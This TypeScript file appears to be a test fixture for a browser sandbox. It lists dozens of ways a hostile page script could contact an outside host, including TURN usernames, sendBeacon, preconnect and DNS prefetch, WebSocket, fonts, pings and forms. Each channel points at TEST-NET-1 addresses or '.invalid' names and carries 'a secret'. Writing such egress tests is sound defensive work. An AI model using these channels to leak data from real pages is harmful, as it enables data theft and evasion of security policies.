// What a hostile script in the page could try, each in one function that runs there. Addresses are of TEST-NET-1 (RFC 5737).

/** Works until the other side would have been spoken to; answers nothing. */
type Way = () => unknown;

const link = (rel: string, href: string): Way =>
  // A function's text is all that reaches the page, so what differs has to be written into it.
  new Function(
    `const link = document.createElement("link"); link.rel = "${rel}"; link.as = "script"; link.href = "${href}"; document.head.append(link);`,
  ) as Way;

/** Gathers candidates for a connection by way of a server that is told its user's name. */
const turn = (urls: string): Way =>
  new Function(`
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "${urls}", username: "a secret", credential: "x" }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));`) as Way;

export const waysToTell: Readonly<Record<string, Way>> = {
  "TURN over UDP": turn("turn:192.0.2.1:3478"),
  "TURN over TCP": turn("turn:192.0.2.2:3478?transport=tcp"),
  "TURN over TLS": turn("turns:192.0.2.3:443?transport=tcp"),
  "TURN's name": turn("turn:secret.turn.invalid:3478"),
  STUN: turn("stun:192.0.2.4:3478"),
  "the other side's candidates": async () => {
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel("x");
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription as RTCSessionDescription);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription as RTCSessionDescription);
    for (const host of ["192.0.2.5", "secret.candidate.invalid", "0c9a3c1e-0000-4000-8000-000000000000.local"]) {
      await one.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 ${host} 9999 typ host`, sdpMid: "0" });
    }
  },
  "TURN from a frame": async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as Window & typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: "turn:192.0.2.6:3478", username: "a secret", credential: "x" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  WebTransport: () => new WebTransport("https://192.0.2.7/").ready,
  preconnect: link("preconnect", "https://192.0.2.8/"),
  "preconnect to a name": link("preconnect", "https://secret.preconnect.invalid/"),
  "dns-prefetch": link("dns-prefetch", "//secret.prefetch.invalid/"),
  "a link's name, looked up ahead": () => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "x-dns-prefetch-control";
    meta.content = "on";
    const anchor = document.createElement("a");
    anchor.href = "http://secret.anchor.invalid/";
    document.head.append(meta);
    document.body.append(anchor);
  },
  prefetch: link("prefetch", "https://192.0.2.9/"),
  prerender: link("prerender", "https://192.0.2.10/"),
  preload: link("preload", "https://192.0.2.11/"),
  modulepreload: link("modulepreload", "https://192.0.2.12/"),
  stylesheet: link("stylesheet", "https://192.0.2.13/"),
  icon: link("icon", "https://192.0.2.14/"),
  manifest: link("manifest", "https://192.0.2.15/"),
  beacon: () => navigator.sendBeacon("https://192.0.2.16/", "a secret"),
  "fetch that outlives the page": () => fetch("https://192.0.2.17/", { keepalive: true, mode: "no-cors" }),
  WebSocket: () => void new WebSocket("wss://192.0.2.18/"),
  EventSource: () => void new EventSource("https://192.0.2.19/"),
  "an image": () => {
    new Image().src = "https://192.0.2.20/";
  },
  "a film": () => {
    const film = document.createElement("video");
    film.src = "https://192.0.2.21/";
    document.body.append(film);
  },
  "a style": () => {
    document.body.style.background = "url(https://192.0.2.22/)";
  },
  "a font": () => new FontFace("x", "url(https://192.0.2.23/)").load(),
  "a link's ping, and where it leads": () => {
    const anchor = document.createElement("a");
    anchor.href = "https://192.0.2.24/";
    anchor.ping = "https://192.0.2.25/";
    document.body.append(anchor);
    anchor.click();
  },
  "a download": () => {
    const anchor = document.createElement("a");
    anchor.href = "https://192.0.2.26/";
    anchor.download = "x";
    document.body.append(anchor);
    anchor.click();
  },
  "a form": () => {
    const form = document.createElement("form");
    form.action = "https://192.0.2.27/";
    form.method = "post";
    document.body.append(form);
    form.submit();
  },
  "another window": () => void window.open("https://192.0.2.28/"),
  "another page": () => {
    location.href = "https://192.0.2.29/";
  },
  "spelling, which fetches dictionaries": () => {
    const field = document.createElement("textarea");
    field.spellcheck = true;
    document.body.append(field);
    field.focus();
    field.value = "helo wrld";
  },
};
